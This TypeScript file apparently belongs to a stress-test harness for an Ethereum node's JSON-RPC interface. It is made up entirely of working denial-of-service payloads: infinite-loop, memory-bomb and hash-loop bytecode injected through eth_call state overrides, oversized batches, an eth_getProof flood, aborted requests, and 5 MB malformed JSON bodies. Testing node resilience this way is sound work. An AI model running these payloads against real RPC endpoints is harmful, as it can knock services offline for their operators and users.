import type { Hex } from 'viem'
import type { Attack } from './attack.ts'
import { type EngineTarget, engineAttack } from './engine-attack.ts'

/** JUMPDEST, PUSH1 0, JUMP. */
export const loop: Hex = '0x5b600056'
/** Copies 8 MiB of memory on itself for ever: JUMPDEST, PUSH3 length, PUSH1 32, PUSH1 0, MCOPY, PUSH1 0, JUMP. */
export const memoryBomb: Hex = '0x5b62800000602060005e600056'
/** Hashes a word for ever: JUMPDEST, PUSH1 32, PUSH1 0, KECCAK256, POP, PUSH1 0, JUMP. */
const hashLoop: Hex = '0x5b602060002050600056'
const callee = `0x${'c0'.repeat(20)}` as const
const callOf = (method: string, code: Hex) =>
  ({ method, params: [{ to: callee }, 'latest', { [callee]: { code } }] }) as const

/** They are answered with errors, all of them in the end. */
const askAtOnce = async ({ rpc }: EngineTarget, count: number, method: string, code: Hex) => {
  const { params } = callOf(method, code)
  await Promise.allSettled(Array.from({ length: count }, () => rpc.request(method, params)))
}

const post = (url: string, body: string, signal: AbortSignal) =>
  fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body, signal })

/** One message with so many calls, of which every one is answered. */
async function batch(
  { httpUrl, signal }: EngineTarget,
  count: number,
  call: { readonly method: string; readonly params: readonly unknown[] },
): Promise<void> {
  const calls = Array.from({ length: count }, (_, id) => ({ jsonrpc: '2.0', id, ...call }))
  await (await post(httpUrl, JSON.stringify(calls), signal)).text()
}

export const callAttacks: readonly Attack[] = [
  engineAttack({ name: 'eth_call: 20 loops', act: (target) => askAtOnce(target, 20, 'eth_call', loop) }),
  engineAttack({
    name: 'eth_call: 20 memory bombs',
    act: (target) => askAtOnce(target, 20, 'eth_call', memoryBomb),
  }),
  engineAttack({
    name: 'eth_call: 20 loops of hashes',
    act: (target) => askAtOnce(target, 20, 'eth_call', hashLoop),
  }),
  engineAttack({
    name: 'eth_estimateGas: 10 loops',
    act: (target) => askAtOnce(target, 10, 'eth_estimateGas', loop),
  }),
  engineAttack({
    name: 'eth_createAccessList: 10 memory bombs',
    act: (target) => askAtOnce(target, 10, 'eth_createAccessList', memoryBomb),
  }),
  engineAttack({
    name: 'a batch of 100 loops',
    act: (target) => batch(target, 100, callOf('eth_call', loop)),
  }),
  engineAttack({
    name: 'eth_getProof: a batch of 100, 1000 slots each',
    async act(target) {
      const slots = Array.from({ length: 1_000 }, (_, index) => `0x${index.toString(16).padStart(64, '0')}`)
      const params = ['0x4200000000000000000000000000000000000015', slots, 'latest']
      await batch(target, 100, { method: 'eth_getProof', params })
    },
  }),
  engineAttack({
    name: 'eth_call: 50 loops whose clients hang up',
    async act({ httpUrl, rpc }) {
      const hungUp = new AbortController()
      const { method, params } = callOf('eth_call', loop)
      const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method, params })
      const gone = Array.from({ length: 50 }, () => post(httpUrl, body, hungUp.signal).catch(() => {}))
      await rpc.request('eth_blockNumber', [])
      hungUp.abort()
      await Promise.all(gone)
      await rpc.request('eth_call', [{ to: callee }, 'latest'])
    },
  }),
  engineAttack({
    name: 'nested JSON, 5 MB',
    async act({ httpUrl, signal }) {
      for (let times = 0; times < 5; times++)
        await (await post(httpUrl, '['.repeat(5_000_000), signal)).text()
    },
  }),
  engineAttack({
    name: 'a batch of 5 MB of tiny calls',
    async act({ httpUrl, signal }) {
      await (await post(httpUrl, `[${'{},'.repeat(1_600_000)}{}]`, signal)).text()
    },
  }),
]
